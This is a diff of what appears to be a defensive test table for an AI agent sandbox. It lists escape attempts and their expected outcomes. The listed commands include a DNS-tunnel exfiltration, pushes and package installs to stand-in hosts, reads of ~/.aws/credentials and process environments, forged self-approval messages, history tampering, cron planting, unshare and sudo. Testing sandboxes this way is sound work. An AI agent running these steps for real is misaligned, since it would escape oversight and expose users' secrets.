@@ -31,7 +31,7 @@ class Way:
     gets_out_without_walls: str = ""
     recorded_without_walls: str | None = None
     needs: str = ""
-    shell: bool = False
+    by_shell: bool = False
 
 
 def _connect(name: str, call: str, recorded: str = "", **more: str) -> Way:
@@ -50,14 +50,14 @@ WAYS: tuple[Way, ...] = (
         "--endpoint-url to AWS",
         "aws --endpoint-url https://sts.eu-west-1.amazonaws.com sts get-caller-identity && echo OUT",
         "sts.eu-west-1.amazonaws.com:443",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "aws without the shim and the settings",
         "env -u AWS_ENDPOINT_URL -u AWS_CONFIG_FILE -u HTTPS_PROXY -u https_proxy {aws} sqs list-queues && echo OUT",
         "amazonaws.com",
         recorded_without_walls=":53",
-        shell=True,
+        by_shell=True,
         needs="aws",
     ),
     _connect(
@@ -85,9 +85,9 @@ WAYS: tuple[Way, ...] = (
     Way(
         "proxies unset",
         "env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy {python} -c "
-        "'import urllib.request as u; print(\"OUT\", u.urlopen(\"http://203.0.113.7/\", timeout=3))'",
+        '\'import urllib.request as u; print("OUT", u.urlopen("http://203.0.113.7/", timeout=3))\'',
         "203.0.113.7:80",
-        shell=True,
+        by_shell=True,
     ),
     _connect("IPv6", "go('2001:db8::7', 443, socket.AF_INET6)", "2001:db8::7:443"),
     _connect(
@@ -100,7 +100,8 @@ WAYS: tuple[Way, ...] = (
         "DNS tunnel",
         "name = b''.join(bytes([len(one)]) + one for one in b'c2VjcmV0.tunnel.example'.split(b'.')) + b'\\0'\n"
         "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:\n"
-        "    line.settimeout(2); line.sendto(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\x10\\0\\1', ('8.8.8.8', 53))\n"
+        "    line.settimeout(2)\n"
+        "    line.sendto(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\x10\\0\\1', ('8.8.8.8', 53))\n"
         "    print('OUT' if line.recv(500)[3] & 15 == 0 else 'kept')",
         "c2VjcmV0.tunnel.example".lower(),
         recorded_without_walls="8.8.8.8:53",
@@ -117,7 +118,7 @@ WAYS: tuple[Way, ...] = (
         "git init -q g; cd g; git commit -q --allow-empty -m x; "
         "git push https://git.example/x.git HEAD:main && echo OUT",
         "git.example:443",
-        shell=True,
+        by_shell=True,
         needs="git",
     ),
     Way(
@@ -125,16 +126,21 @@ WAYS: tuple[Way, ...] = (
         "{python} -m pip install -q --retries 0 --timeout 3 --no-cache-dir --isolated "
         "--index-url https://packages.example/simple left-pad && echo OUT",
         "packages.example:443",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "npm install",
         "npm install --fetch-retries 0 --registry https://npm.example left-pad && echo OUT",
         "npm.example:443",
-        shell=True,
+        by_shell=True,
         needs="npm",
     ),
-    _connect("other port of loopback", "go('127.0.0.1', {port})", impossible="a loopback of its own", recorded_without_walls=":{port}"),
+    _connect(
+        "other port of loopback",
+        "go('127.0.0.1', {port})",
+        impossible="a loopback of its own",
+        recorded_without_walls=":{port}",
+    ),
     Way(
         "abstract unix socket",
         "import socket; s = socket.socket(1); s.connect('\\0{abstract}'); print('OUT')",
@@ -152,25 +158,26 @@ WAYS: tuple[Way, ...] = (
         "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep CANARY && echo OUT",
         impossible="no process outside is seen",
         gets_out_without_walls="programs run as the user who runs the harness",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "~/.aws of the user",
         "cat {home}/.aws/credentials && echo OUT",
         impossible="it is covered",
         gets_out_without_walls="programs run as the user who runs the harness",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "~ of the user by way of HOME",
         "cat ~/.aws/credentials | grep CANARY && echo OUT",
         impossible="HOME is the agent's own",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "approving itself",
         "import json, os, socket\n"
-        "for message in ({'approve': 'r-1'}, {'request': 'r-1', 'decision': 'approved'}, {'actions': ['x'], 'approved': True}):\n"
+        "forged = [{'approve': 'r-1'}, {'request': 'r-1', 'decision': 'approved'}, {'actions': ['x'], 'approved': True}]\n"
+        "for message in forged:\n"
         "    line = socket.socket(socket.AF_UNIX); line.connect(os.environ['APPROVALS_ADDRESS'])\n"
         "    line.sendall(json.dumps(message).encode() + b'\\n'); answer = line.makefile().readline()\n"
         "    print('kept' if 'refused' in answer else 'OUT ' + answer)",
@@ -178,9 +185,23 @@ WAYS: tuple[Way, ...] = (
     ),
     Way(
         "writing the history",
-        "import glob\nfor one in glob.glob('{history}/**', recursive=True):\n    open(one, 'r+b').close() if one.endswith('l') else 0; print('OUT' * one.endswith('l'))",
+        "import glob\nfor one in glob.glob('{history}/*.jsonl'):\n    open(one, 'r+b').close(); print('OUT')",
         impossible="it is covered",
         gets_out_without_walls="programs run as the user who runs the harness",
+    ),
+    Way(
+        "reading the history",
+        "cat {history}/*.jsonl && echo OUT",
+        impossible="it is covered",
+        gets_out_without_walls="programs run as the user who runs the harness",
+        by_shell=True,
+    ),
+    Way(
+        "reading the code of the harness",
+        "head -1 {harness} && echo OUT",
+        impossible="it is covered",
+        gets_out_without_walls="programs run as the user who runs the harness",
+        by_shell=True,
     ),
     Way(
         "resetting the world",
@@ -205,7 +226,7 @@ WAYS: tuple[Way, ...] = (
         "rm -f /var/spool/cron/crontabs/ops.canary",
         impossible="read-only",
         gets_out_without_walls="programs run as the user who runs the harness",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "at",
@@ -213,7 +234,7 @@ WAYS: tuple[Way, ...] = (
         impossible="read-only",
         gets_out_without_walls="programs run as the user who runs the harness",
         needs="at",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "ptrace of the harness",
@@ -248,29 +269,29 @@ WAYS: tuple[Way, ...] = (
         impossible="the kernel keeps what was mounted before",
         gets_out_without_walls="nothing is covered",
         needs="unshare",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "a network of its own",
-        "unshare -Urn {python} -c 'import socket; socket.create_connection((\"203.0.113.9\", 443), 3); print(\"OUT\")'",
+        'unshare -Urn {python} -c \'import socket; socket.create_connection(("203.0.113.9", 443), 3); print("OUT")\'',
         impossible="nothing is in it either",
         recorded_without_walls="203.0.113.9:443",
         needs="unshare",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "writing outside its places",
         "echo x > {outside}/written && echo OUT; rm -f {outside}/written",
         impossible="read-only, or a copy of nobody's",
         gets_out_without_walls="programs run as the user who runs the harness",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "sudo",
         "sudo -n true && echo OUT",
         impossible="no program gets more rights than it has",
         needs="sudo",
-        shell=True,
+        by_shell=True,
     ),
     Way(
         "devices",
